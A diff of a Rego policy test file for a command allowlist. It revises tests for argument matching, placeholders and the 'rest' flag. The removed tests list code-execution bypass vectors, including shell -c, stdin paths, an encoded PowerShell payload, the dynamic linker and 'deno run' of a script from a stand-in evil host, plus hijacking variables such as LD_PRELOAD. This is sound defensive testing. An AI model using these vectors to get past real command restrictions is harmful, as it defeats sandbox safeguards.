@@ -2,32 +2,62 @@ package catalogd.lib.command_test
 
 import data.catalogd.lib.command
 
-cmd(declared, args) := {"declared": declared, "path": concat("", ["/usr/bin/", declared]), "args": args, "dir": "", "env": []}
+cmd(declared, args) := {"declared": declared, "path": concat("", ["/usr/bin/", declared]), "args": args, "dir": "", "env": [], "from_call": []}
 
-test_leading_arguments[case.note] if {
+test_command_lines[case.note] if {
 	some case in [
 		{"note": "equal", "entry": ["date", "-u"], "args": ["-u"], "want": true},
-		{"note": "more follow", "entry": ["date", "-u"], "args": ["-u", "+%Y"], "want": true},
+		{"note": "more follow", "entry": ["date", "-u"], "args": ["-u", "+%Y"], "want": false},
 		{"note": "fewer", "entry": ["date", "-u"], "args": [], "want": false},
 		{"note": "other", "entry": ["date", "-u"], "args": ["-s", "-u"], "want": false},
 		{"note": "glued", "entry": ["date", "-u"], "args": ["-us"], "want": false},
-		{"note": "none asked", "entry": ["date"], "args": ["-s"], "want": true},
+		{"note": "none asked", "entry": ["date"], "args": ["-s"], "want": false},
+		{"note": "none", "entry": ["date"], "args": [], "want": true},
 		{"note": "the file", "entry": ["/usr/bin/date"], "args": [], "want": true},
 		{"note": "another file", "entry": ["/bin/date"], "args": [], "want": false},
 		{"note": "longer name", "entry": ["dat"], "args": [], "want": false},
+		{"note": "an empty argument", "entry": ["date", ""], "args": [""], "want": true},
+		{"note": "an alternative", "entry": ["date", ["-u", "-R"], "x"], "args": ["-R", "x"], "want": true},
+		{"note": "no alternative", "entry": ["date", ["-u", "-R"]], "args": ["-s"], "want": false},
+		{"note": "two alternatives", "entry": ["date", ["-u", "-R"]], "args": ["-u", "-R"], "want": false},
+		{"note": "no alternative at all", "entry": ["date", []], "args": [""], "want": false},
+		{"note": "a pattern is text", "entry": ["date", "*"], "args": ["-u"], "want": false},
 	]
 	covers({"command": case.entry}, cmd("date", case.args)) == case.want
+}
+
+# What calls fill in is covered as it is declared.
+test_placeholders[case.note] if {
+	some case in [
+		{"note": "as declared", "entry": {"command": ["grep", "-e", "{pattern}"]}, "args": ["-e", "{pattern}"], "want": true},
+		{"note": "another one", "entry": {"command": ["grep", "-e", "{pattern}"]}, "args": ["-e", "{file}"], "want": false},
+		{"note": "in place of a text", "entry": {"command": ["grep", "-e", "x"]}, "args": ["-e", "{pattern}"], "want": false},
+		{"note": "inside an element", "entry": {"command": ["grep", "--regexp={pattern}"]}, "args": ["--regexp={pattern}"], "want": true},
+		{"note": "more than declared", "entry": {"command": ["grep", "{pattern}"]}, "args": ["--{pattern}"], "want": false},
+		{"note": "behind", "entry": {"command": ["grep", "-e"]}, "args": ["-e", "{pattern}"], "want": false},
+		{"note": "behind, with rest", "entry": {"command": ["grep", "-e"], "rest": true}, "args": ["-e", "{pattern}"], "want": false},
+		{"note": "behind, named", "entry": {"command": ["grep", "-e"], "rest": true, "from_call": ["pattern"]}, "args": ["-e", "{pattern}"], "want": false},
+		{"note": "fixed, behind", "entry": {"command": ["grep", "-e", "{pattern}"], "rest": true}, "args": ["-e", "{pattern}", "-i", "x"], "want": true},
+		{"note": "fixed, before", "entry": {"command": ["grep", "-e", "{pattern}"], "rest": true}, "args": ["-i", "-e", "{pattern}"], "want": false},
+	]
+	covers(case.entry, object.union(cmd("grep", case.args), {"from_call": ["pattern"]})) == case.want
+}
+
+test_rest[case.note] if {
+	some case in [
+		{"note": "nothing", "rest": true, "args": ["-u"], "want": true},
+		{"note": "fixed ones", "rest": true, "args": ["-u", "-a", ""], "want": true},
+		{"note": "braces are text where no call fills them in", "rest": true, "args": ["-u", "{}", "{x}"], "want": true},
+		{"note": "not granted", "rest": false, "args": ["-u", "-a"], "want": false},
+		{"note": "no boolean", "rest": "true", "args": ["-u", "-a"], "want": false},
+		{"note": "fewer", "rest": true, "args": [], "want": false},
+	]
+	covers({"command": ["date", "-u"], "rest": case.rest}, cmd("date", case.args)) == case.want
 }
 
 default covers(_, _) := false
 
 covers(entry, c) if command.covers(entry, c)
-
-test_exact_takes_nothing_behind if {
-	entry := {"command": ["date", "-u"], "exact": true}
-	command.covers(entry, cmd("date", ["-u"]))
-	not command.covers(entry, cmd("date", ["-u", "-s"]))
-}
 
 # A relative script is another one in another directory.
 test_dir[case.note] if {
@@ -43,7 +73,7 @@ test_dir[case.note] if {
 		{"note": "longer", "entry": {"dir": "/opt/tools"}, "dir": "/opt/tools-evil", "want": false},
 		{"note": "no text", "entry": {"dir": false}, "dir": "", "want": false},
 	]
-	entry := object.union({"command": ["node", "server.js"], "exact": true}, case.entry)
+	entry := object.union({"command": ["node", "server.js"]}, case.entry)
 	covers(entry, object.union(cmd("node", ["server.js"]), {"dir": case.dir})) == case.want
 }
 
@@ -53,68 +83,4 @@ test_a_command_without_a_directory_is_no_command if {
 
 test_a_declared_path_is_not_its_name if {
 	not command.covers({"command": ["date"]}, {"declared": "./date", "path": "/srv/date", "args": [], "dir": ""})
-}
-
-test_runs_code[case.note] if {
-	some case in [
-		{"note": "sh", "cmd": cmd("sh", ["-c", "x"]), "want": true},
-		{"note": "sh with a file", "cmd": cmd("sh", ["-eu", "x.sh"]), "want": false},
-		{"note": "sh +c", "cmd": cmd("sh", ["+c", "x"]), "want": true},
-		{"note": "bash -u +ec", "cmd": cmd("bash", ["-u", "+ec", "x"]), "want": true},
-		{"note": "sh /dev/stdin", "cmd": cmd("sh", ["/dev/stdin"]), "want": true},
-		{"note": "sh //dev/./stdin", "cmd": cmd("sh", ["//dev/./stdin"]), "want": true},
-		{"note": "sh /dev/../dev/stdin", "cmd": cmd("sh", ["/dev/../dev/stdin"]), "want": true},
-		{"note": "sh dev/stdin", "cmd": cmd("sh", ["../../dev/stdin"]), "want": true},
-		{"note": "python /proc/self/fd/0", "cmd": cmd("python3", ["/proc/self/fd/0"]), "want": true},
-		{"note": "python /dev/fd/0", "cmd": cmd("python3", ["-u", "/dev/fd/0"]), "want": true},
-		{"note": "a script in dev", "cmd": cmd("node", ["/home/dev/server.js"]), "want": false},
-		{"note": "a script in fd", "cmd": cmd("node", ["fd/server.js"]), "want": false},
-		{"note": "deno run data:", "cmd": cmd("deno", ["run", "data:text/javascript,x"]), "want": true},
-		{"note": "deno run https:", "cmd": cmd("deno", ["run", "https://evil.example/x.ts"]), "want": true},
-		{"note": "deno run a file", "cmd": cmd("deno", ["run", "./x.ts"]), "want": false},
-		{"note": "node inspect", "cmd": cmd("node", ["inspect"]), "want": true},
-		{"note": "npx -yc", "cmd": cmd("npx", ["-yc", "x"]), "want": true},
-		{"note": "npx --cal=", "cmd": cmd("npx", ["--cal=x"]), "want": true},
-		{"note": "pwsh -e", "cmd": cmd("pwsh", ["-e", "ZQBjAGgAbwA="]), "want": true},
-		{"note": "uv run", "cmd": cmd("uv", ["run", "x"]), "want": true},
-		{"note": "the dynamic linker", "cmd": {"declared": "x", "path": "/lib64/ld-linux-x86-64.so.2", "args": ["/bin/sh", "-c", "x"]}, "want": true},
-		{"note": "taskset", "cmd": cmd("taskset", ["1", "sh", "-c", "x"]), "want": true},
-		{"note": "sh -ec", "cmd": cmd("sh", ["-ec", "x"]), "want": true},
-		{"note": "python -u with a file", "cmd": cmd("python3", ["-u", "server.py"]), "want": false},
-		{"note": "perl -e", "cmd": cmd("perl", ["-w", "-e", "x"]), "want": true},
-		{"note": "a link to a shell", "cmd": {"declared": "tool", "path": "/usr/bin/dash", "args": ["-c", "x"]}, "want": true},
-		{"note": "env", "cmd": cmd("env", ["date"]), "want": true},
-		{"note": "xargs", "cmd": cmd("xargs", []), "want": true},
-		{"note": "python -c", "cmd": cmd("python3", ["-c", "x"]), "want": true},
-		{"note": "python -Ic", "cmd": cmd("python3.12", ["-Ic", "x"]), "want": true},
-		{"note": "python from stdin", "cmd": cmd("python3", []), "want": true},
-		{"note": "python with a file of the caller", "cmd": cmd("python3", ["{file}"]), "want": true},
-		{"note": "python with a file", "cmd": cmd("python3", ["server.py", "-c"]), "want": false},
-		{"note": "python -m", "cmd": cmd("python3", ["-m", "server"]), "want": false},
-		{"note": "node -e", "cmd": cmd("node", ["-e", "x"]), "want": true},
-		{"note": "node with a file", "cmd": cmd("node", ["server.js"]), "want": false},
-		{"note": "deno eval", "cmd": cmd("deno", ["eval", "x"]), "want": true},
-		{"note": "npx -c", "cmd": cmd("npx", ["-c", "x"]), "want": true},
-		{"note": "npx", "cmd": cmd("npx", ["--no-install", "x"]), "want": false},
-		{"note": "date", "cmd": cmd("date", []), "want": false},
-		{"note": "busybox's date", "cmd": {"declared": "date", "path": "/usr/bin/date", "args": []}, "want": false},
-	]
-	runs_code(case.cmd) == case.want
-}
-
-default runs_code(_) := false
-
-runs_code(c) if command.runs_code(c)
-
-test_steering[name] if {
-	some name in [
-		"LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "PATH", "GIT_SSH_COMMAND",
-		"npm_config_script_shell", "Npm_Config_Script_Shell", "PYTHONBREAKPOINT", "_JAVA_OPTIONS", "LUA_INIT_5_4", "ZDOTDIR", "OPENSSL_CONF",
-	]
-	command.steering(name)
-}
-
-test_not_steering[name] if {
-	some name in ["HOME", "API_KEY", "LANG", "MY_LD_PATH", "NODE_ENV", "PYTHONUNBUFFERED", "TZ", "RUN_ID", "MY_npm_token"]
-	not command.steering(name)
 }
